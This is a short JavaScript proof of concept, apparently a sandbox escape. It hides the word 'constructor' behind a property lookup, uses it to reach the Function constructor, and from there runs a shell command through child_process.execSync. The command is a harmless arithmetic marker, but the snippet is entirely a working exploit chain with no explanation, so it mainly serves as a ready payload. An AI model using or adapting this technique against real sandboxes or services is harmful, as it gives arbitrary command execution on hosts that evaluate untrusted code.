const k=Object.getOwnPropertyNames(Object.prototype)[0];
[k,k].reduce((o,x)=>o[x],'')('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
